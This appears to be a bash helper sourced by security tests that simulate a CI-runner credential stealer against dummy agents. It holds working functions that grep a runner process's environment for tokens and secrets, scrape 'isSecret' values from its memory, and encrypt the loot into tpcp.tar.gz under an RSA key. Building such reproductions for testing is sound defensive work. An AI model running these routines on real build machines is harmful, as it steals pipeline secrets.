# Sourced by thefts that a shell does: the agent's environment and memory, and packing under the test's RSA key.
attacks=$(dirname "$(readlink -f "${BASH_SOURCE[0]}")")

# As `pgrep -f` does. Several tests may run dummy agents at the same time: only this test's own is touched.
agents() {
  local entry pid argv0
  for entry in /proc/[0-9]*; do
    pid=${entry#/proc/}
    argv0=
    { IFS= read -r -d '' argv0 < "$entry/cmdline"; } 2>/dev/null
    [[ $argv0 == *Runner.Worker* && $pid == "$AGENT_PID" ]] && echo "$pid"
  done
}

agent_environ() {
  cat "/proc/$1/environ" | tr '\0' '\n' | grep -iE 'token|secret|key'
}

# The rest of the command line reads the memory: `python3`, or `sudo python3`.
agent_memory() {
  local pid=$1
  shift
  base64 "$attacks/memdump.py" | base64 -d | "$@" - "$pid" | tr -d '\0' \
    | grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' | sort -u
}

# Packs the file $2 into $1/tpcp.tar.gz.
pack() {
  # In hex: openssl takes the first line for the key and refuses one that begins with NUL, as one random key in 256 does.
  openssl rand -hex -out "$1/session.key" 32
  openssl enc -aes-256-cbc -pbkdf2 -pass "file:$1/session.key" -in "$2" -out "$1/payload.enc"
  openssl pkeyutl -encrypt -pubin -inkey "$PUBKEY" -pkeyopt rsa_padding_mode:oaep \
    -in "$1/session.key" -out "$1/session.key.enc"
  tar -czf "$1/tpcp.tar.gz" -C "$1" payload.enc session.key.enc
}
